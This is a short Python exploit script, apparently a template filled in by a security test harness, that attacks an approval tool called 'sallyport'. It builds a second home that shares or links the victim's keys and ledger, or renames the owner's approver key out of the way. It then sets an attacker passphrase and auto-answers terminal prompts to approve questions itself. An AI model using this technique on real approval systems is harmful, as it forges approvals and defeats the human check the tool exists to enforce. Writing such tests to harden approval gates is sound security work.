# Makes a second home that shares the victim's store, chooses a passphrase there and answers a question of the victim's.
# Or, where it shares nothing, moves the owner's key out of the victim's own home and chooses anew there.
# Usage: self_approve.py [ID]. The harness fills in what stands between two @.
import os, pty, re, select, shutil, sys

HOME, EVIL, NODE, ENTRY, LINK, FIRST = '@HOME@', '@EVIL@', '@NODE@', '@ENTRY@', '@LINK@', '@FIRST@'
PHRASE = b'attacker phrase'


def second_home():
    if LINK == 'none':
        return os.rename(HOME + '/approver.json', HOME + '/approver.old')
    shutil.rmtree(EVIL, ignore_errors=True)
    os.makedirs(EVIL + '/keys', 0o700)
    os.chmod(EVIL, 0o700)
    for name in ['sallyport.toml', *('keys/' + name for name in '@KEYS@'.split())]:
        if os.path.exists(HOME + '/' + name):
            shutil.copy2(HOME + '/' + name, EVIL + '/' + name)
    for name in ['ledger.db', 'ledger.db-wal', 'ledger.db-shm']:
        if os.path.exists(HOME + '/' + name):
            (os.link if LINK == 'hard' else os.symlink)(HOME + '/' + name, EVIL + '/' + name)


def at_terminal(*words):
    pid, terminal = pty.fork()
    if pid == 0:
        os.environ['SALLYPORT_HOME'] = EVIL
        os.execv(NODE, [NODE, ENTRY, *words])
    shown = b''
    while select.select([terminal], [], [], 20)[0]:
        try:
            text = os.read(terminal, 65536)
        except OSError:
            break
        if not text:
            break
        shown += text
        os.write(1, text)
        if re.search(rb'\[y/n\] $', shown):
            os.write(terminal, b'y')
        elif re.search(rb'q quit: $', shown):
            os.write(terminal, b'\r')
        elif re.search(rb'(?:assphrase|code|Once more)[^\n]*: $', shown):
            os.write(terminal, PHRASE + b'\r')
        else:
            continue
        shown = b''
    os.close(terminal)
    os.waitpid(pid, 0)


second_home()
if FIRST:
    at_terminal(*FIRST.split())
at_terminal('passphrase')
for question in sys.argv[1:]:
    at_terminal('approve', question)
